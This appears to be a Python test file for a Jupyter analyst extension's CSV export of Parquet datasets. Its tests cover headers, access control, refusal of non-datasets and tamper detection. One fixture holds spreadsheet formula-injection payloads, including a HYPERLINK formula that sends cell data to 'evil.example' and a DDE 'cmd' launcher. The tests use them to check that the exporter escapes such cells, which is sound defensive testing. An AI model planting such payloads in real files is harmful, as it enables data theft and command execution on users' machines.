"""A dataset downloads as CSV: ``GET artifacts/{id}/content?format=csv`` converts its Parquet
blob (checked against its fingerprint first) a batch at a time, as an attachment named
``<name>.csv``; a cell a spreadsheet would run as a formula is written as text; anything but
a dataset is refused, and another user's artifact is unknown, as for its Parquet bytes."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tornado.httpclient import HTTPClientError

from jupyter_analyst.testing import ScriptedModelServer
from jupyter_analyst.testing.identity import HEADER, HeaderIdentityProvider
from jupyter_analyst.testing.servers.jupyter import analyst_server_config

XSRF = {"Cookie": "_xsrf=t0k3n", "X-XSRFToken": "t0k3n"}
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "plain"]


@pytest.fixture
def jp_server_config(tmp_path, sales_db):
    with ScriptedModelServer({"turns": []}) as model:
        yield analyst_server_config(
            tmp_path / "ws", {"sales": str(sales_db)}, model.base_url,
            server={"identity_provider_class": HeaderIdentityProvider, "allow_unauthenticated_access": False},
        )


async def fetch(jp_fetch, user, *path, method="GET", body=None, **kw):
    headers = {HEADER: user, "Authorization": "", **(XSRF if method != "GET" else {})}
    if body is not None:
        kw["body"] = json.dumps(body)
    return await jp_fetch("analyst", "api", *path, method=method, headers=headers, **kw)


def parquet(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out, row_group_size=1000)
    return out.getvalue()


async def ann_dataset(jp_fetch, jp_serverapp):
    """Ann's thread, with a dataset of 2500 rows (several row groups and CSV batches),
    one of hostile cells and a chart."""
    thread = json.loads((await fetch(jp_fetch, "ann", "threads", method="POST", body={"source": "sales"})).body)
    store = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    tid = thread["thread_id"]
    rows = pa.table({"region": [f"r{i % 7}" for i in range(2500)], "amount": [i * 0.5 - 3 for i in range(2500)],
                     "n": list(range(-1, 2499))})
    big, _ = store.add_bytes(parquet(rows), thread_id=tid, name="by_region", type="dataset",
                             mime="application/vnd.apache.parquet", producer="sql")
    hostile, _ = store.add_bytes(parquet(pa.table({"=cmd|' /C calc'!A0": HOSTILE, "n": [-1, 2, 3, 4, 5, 6]})),
                                 thread_id=tid, name="outputs/hostile.parquet", type="dataset",
                                 mime="application/vnd.apache.parquet", producer="python")
    chart, _ = store.add_bytes(b"\x89PNG\r\n\x1a\nnot really", thread_id=tid, name="outputs/chart.png",
                               type="image", mime="image/png", producer="python")
    return {"thread": tid, "big": big, "rows": rows, "hostile": hostile, "chart": chart}


async def test_a_dataset_downloads_as_csv_with_its_rows(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    response = await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="by_region.csv"')
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    read = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
    assert read[0] == ["region", "amount", "n"]  # one header, though written in batches
    expected = ann["rows"].to_pylist()
    assert [[r["region"], float(r["amount"]), int(r["n"])] for r in expected] == \
        [[row[0], float(row[1]), int(row[2])] for row in read[1:]]
    # Without a format: the Parquet bytes, as before.
    plain = await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content")
    assert plain.headers["Content-Type"] == "application/vnd.apache.parquet"
    assert pq.read_table(io.BytesIO(plain.body)).equals(ann["rows"])


async def test_a_cell_a_spreadsheet_would_run_is_written_as_text(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    response = await fetch(jp_fetch, "ann", "artifacts", ann["hostile"].artifact_id, "content",
                           params={"format": "csv"})
    assert response.headers["Content-Disposition"].startswith('attachment; filename="hostile.csv"')
    read = list(csv.reader(io.StringIO(response.body.decode("utf-8"))))
    assert read[0] == ["'=cmd|' /C calc'!A0", "n"]
    assert [row[0] for row in read[1:]] == ["'" + cell for cell in HOSTILE[:5]] + ["plain"]
    assert [row[1] for row in read[1:]] == ["-1", "2", "3", "4", "5", "6"]  # numbers stay numbers


async def test_csv_of_anything_but_a_dataset_is_refused(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    with pytest.raises(HTTPClientError) as info:
        await fetch(jp_fetch, "ann", "artifacts", ann["chart"].artifact_id, "content", params={"format": "csv"})
    body = json.loads(info.value.response.body)
    assert (info.value.code, body["reason"]) == (400, "not_a_dataset")
    assert "image, not a dataset" in body["message"]
    with pytest.raises(HTTPClientError) as info:
        await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "xlsx"})
    assert info.value.code == 400


async def test_another_users_dataset_is_unknown_as_csv_too(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    for params in ({"format": "csv"}, {}):
        with pytest.raises(HTTPClientError) as info:
            await fetch(jp_fetch, "bob", "artifacts", ann["big"].artifact_id, "content", params=params)
        assert (info.value.code, json.loads(info.value.response.body)["reason"]) == (404, "artifact_not_found")


async def test_a_dataset_whose_bytes_changed_is_not_converted(jp_fetch, jp_serverapp):
    ann = await ann_dataset(jp_fetch, jp_serverapp)
    blobs = jp_serverapp.web_app.settings["jupyter_analyst"].workspace.artifacts
    path = blobs.blob_path(ann["big"].fingerprint)
    path.unlink()  # swapped for other rows
    path.write_bytes(parquet(pa.table({"region": ["forged"], "amount": [0.0], "n": [0]})))
    with pytest.raises(HTTPClientError) as info:
        await fetch(jp_fetch, "ann", "artifacts", ann["big"].artifact_id, "content", params={"format": "csv"})
    assert (info.value.code, info.value.response.reason) == (500, "blob_corrupt")
    assert b"forged" not in info.value.response.body
